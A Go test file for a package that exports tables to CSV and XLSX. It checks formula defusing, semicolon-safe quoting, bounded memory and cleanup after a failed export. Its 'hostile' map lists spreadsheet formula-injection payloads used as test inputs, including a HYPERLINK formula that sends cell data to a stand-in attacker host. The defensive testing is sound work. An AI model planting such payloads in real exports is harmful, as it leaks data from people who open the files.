package exports

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/matryer/is"
	"github.com/xuri/excelize/v2"

	"github.com/affiliatekit/affiliatekit/affiliate"
	"github.com/affiliatekit/affiliatekit/httpadapter/internal/wire"
)

type exported struct {
	id   int64
	text string
}

// asIs is the snapshot of lists that do not change.
func asIs(ctx context.Context, fn func(context.Context) error) error { return fn(ctx) }

func exportOf(next func() ([]exported, error)) Table[exported] {
	rows := func() Rows[exported] { return func(context.Context) ([]exported, error) { return next() } }
	return Table[exported]{Name: "things", Rows: rows, Columns: []Column[exported]{
		{"id", func(e exported) any { return e.id }},
		{"text", func(e exported) any { return e.text }},
		{"nothing", func(exported) any { return nil }},
	}}
}

// batches answers each batch once, then the end.
func batches(all ...[]exported) func() ([]exported, error) {
	return func() ([]exported, error) {
		if len(all) == 0 {
			return nil, nil
		}
		batch := all[0]
		all = all[1:]
		return batch, nil
	}
}

// hostile are texts that a spreadsheet would run, and what must become of them.
var hostile = map[string]string{
	`=1+1`: `'=1+1`, `+49`: `'+49`, `-1`: `'-1`, `@SUM(A1)`: `'@SUM(A1)`, "\t=1": "'\t=1", "\r=1": "'\r=1",
	`=HYPERLINK("https://evil.example/?"&A1,"x")`: `'=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`＝1+1`: `'＝1+1`, `＋1`: `'＋1`, `－1`: `'－1`, `＠x`: `'＠x`, `  =1+1`: `'  =1+1`, "\ufeff=1": "'\ufeff=1", "\u00a0+1": "'\u00a0+1", " \ufeff @x": "' \ufeff @x",
	` plain `: ` plain `, `a;b`: `a;b`, `a|b`: `a|b`,
	`plain`: `plain`, `a=b`: `a=b`, ``: ``, `"quoted", and = more`: `"quoted", and = more`, `åäö €`: `åäö €`,
}

func TestExportsDefuseFormulas(t *testing.T) {
	for text, want := range hostile {
		for format, read := range map[string]func(*testing.T, []byte) [][]string{CSV: readCSV, XLSX: readXLSX} {
			is, want := is.New(t), want
			stream, err := exportOf(batches([]exported{{1, text}, {-2, "last"}})).Export(t.Context(), asIs, FileForm{Format: format})
			is.NoErr(err)
			var file bytes.Buffer
			is.NoErr(stream.Write(&file))
			is.NoErr(stream.Close())
			rows := read(t, file.Bytes())
			if format == XLSX {
				want = text // a text cell is no formula
			}
			is.Equal(len(rows), 3)
			is.Equal(rows[0][:2], []string{"id", "text"})
			cell := ""
			if len(rows[1]) > 1 { // a spreadsheet has no cells behind the last one with something in it
				cell = rows[1][1]
			}
			is.Equal(strings.ReplaceAll(cell, "\r", ""), strings.ReplaceAll(want, "\r", "")) // readers of both formats normalise line ends
			is.Equal(rows[2][:2], []string{"-2", "last"})                                    // numbers stay numbers
		}
	}
}

// A reader that takes semicolons for separators finds no cell that it splits.
func TestExportsQuoteWhatOtherReadersWouldSplitAt(t *testing.T) {
	is := is.New(t)
	stream, err := exportOf(batches([]exported{{1, "a;b"}, {2, "=1;=2"}, {3, "x|y"}, {4, " z"}})).Export(t.Context(), asIs, FileForm{Format: CSV})
	is.NoErr(err)
	var file bytes.Buffer
	is.NoErr(stream.Write(&file))
	is.Equal(file.String(), byteOrderMark+"id,text,nothing\n1,\"a;b\",\n2,\"'=1;=2\",\n3,\"x|y\",\n4,\" z\",\n")
}

func readCSV(t *testing.T, file []byte) [][]string {
	t.Helper()
	marked, ok := bytes.CutPrefix(file, []byte(byteOrderMark))
	if !ok {
		t.Error("no byte order mark: Excel takes it for another charset")
	}
	rows, err := csv.NewReader(bytes.NewReader(marked)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func readXLSX(t *testing.T, file []byte) [][]string {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = book.Close() }()
	rows, err := book.GetRows(book.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for j := range rows[i] {
			if formula, err := book.GetCellFormula(book.GetSheetName(0), cellName(t, j, i)); err != nil || formula != "" {
				t.Errorf("a formula %q, %v", formula, err)
			}
		}
	}
	return rows
}

func cellName(t *testing.T, column, row int) string {
	t.Helper()
	name, err := excelize.CoordinatesToCellName(column+1, row+1)
	if err != nil {
		t.Fatal(err)
	}
	return name
}

// peak is the most live memory that was seen, in bytes above where it began.
type peak struct{ base, most uint64 }

func live() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

func (p *peak) look() { p.most = max(p.most, live()) }

func (p *peak) grown() uint64 { return p.most - min(p.base, p.most) }

// A hundred thousand rows of a kilobyte each are 100 MB of text.
func TestExportsOfManyRowsStayInBoundedMemory(t *testing.T) {
	const rows = 100_000
	filler := strings.Repeat("x", 1000)
	for format, bound := range map[string]uint64{CSV: 4 << 20, XLSX: 64 << 20} {
		t.Run(format, func(t *testing.T) {
			is := is.New(t)
			memory := peak{base: live()}
			made := 0
			next := func() ([]exported, error) {
				if made%(20*exportBatch) == 0 {
					memory.look()
				}
				batch := make([]exported, 0, exportBatch)
				for ; len(batch) < exportBatch && made < rows; made++ {
					batch = append(batch, exported{int64(made), "=" + strconv.Itoa(made) + filler})
				}
				return batch, nil
			}
			stream, err := exportOf(next).Export(t.Context(), asIs, FileForm{Format: format})
			is.NoErr(err)
			path := filepath.Join(t.TempDir(), "things."+format)
			file, err := os.Create(path)
			is.NoErr(err)
			is.NoErr(stream.Write(file))
			memory.look()
			is.NoErr(file.Close())
			is.NoErr(stream.Close())
			if memory.grown() > bound {
				t.Errorf("%d MiB were alive at once", memory.grown()>>20)
			}
			is.Equal(countRows(t, format, path), rows+1)
		})
	}
}

// countRows counts the lines of a file without keeping it.
func countRows(t *testing.T, format, path string) int {
	t.Helper()
	if format == CSV {
		file, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = file.Close() }()
		return count(t, file, "\n")
	}
	archive, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = archive.Close() }()
	sheet, err := archive.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sheet.Close() }()
	return count(t, sheet, "<row ")
}

func count(t *testing.T, r io.Reader, what string) int {
	t.Helper()
	n, rest, buffer := 0, "", make([]byte, 1<<20)
	for {
		read, err := r.Read(buffer)
		text := rest + string(buffer[:read])
		n += strings.Count(text, what)
		rest = text[max(0, len(text)-len(what)+1):]
		if err == io.EOF {
			return n
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// A list that cannot be read to its end is an error, and no file is left behind.
func TestAnExportThatBreaksIsNoFile(t *testing.T) {
	is := is.New(t)
	t.Setenv("TMPDIR", t.TempDir())
	broken := errors.New("the database went away")
	large := exported{1, strings.Repeat("x", spoolMemory)}
	for _, format := range []string{CSV, XLSX} {
		for _, whole := range [][]exported{nil, {large, large}} {
			calls := 0
			_, err := exportOf(func() ([]exported, error) {
				if calls++; calls > len(whole) {
					return nil, broken
				}
				return whole[:1], nil
			}).Export(t.Context(), asIs, FileForm{Format: format})
			is.True(errors.Is(err, broken))
			left, err := os.ReadDir(os.TempDir())
			is.NoErr(err)
			is.Equal(len(left), 0)
		}
	}
}

// Backends find the order of a list out once for all batches of one reading.
func TestTheBatchesOfAReadingShareTheirKeys(t *testing.T) {
	is := is.New(t)
	var keys []*affiliate.PageKeys
	rows := Batches(affiliate.Sort{}, func(_ context.Context, req affiliate.PageRequest) (affiliate.Page[int], error) {
		keys = append(keys, req.Keys)
		return affiliate.Page[int]{Items: make([]int, min(req.Size, 1500-req.Offset()))}, nil
	})
	for range 2 {
		next := rows()
		for n := 1; n > 0; {
			batch, err := next(t.Context())
			is.NoErr(err)
			n = len(batch)
		}
	}
	is.Equal(len(keys), 4)
	is.True(keys[0] != nil && keys[0] == keys[1])
	is.True(keys[2] == keys[3] && keys[2] != keys[0]) // another reading may see another list
}

func TestAnExportBeginsAnewWhenItsSnapshotDoes(t *testing.T) {
	is := is.New(t)
	twice := func(ctx context.Context, fn func(context.Context) error) error {
		return errors.Join(fn(ctx), fn(ctx))
	}
	rows := Batches(affiliate.Sort{}, func(_ context.Context, req affiliate.PageRequest) (affiliate.Page[exported], error) {
		return affiliate.Page[exported]{Items: []exported{{int64(req.Number), "a"}}}, nil
	})
	table := exportOf(nil)
	table.Rows = rows
	stream, err := table.Export(t.Context(), twice, FileForm{Format: CSV, BOM: wire.Optional[bool]{Set: true}})
	is.NoErr(err)
	var file bytes.Buffer
	is.NoErr(stream.Write(&file))
	is.Equal(file.String(), "id,text,nothing\n1,a,\n") // and without a mark
	is.Equal(stream.Header.Get("Content-Disposition"), `attachment; filename="things.csv"`)
}
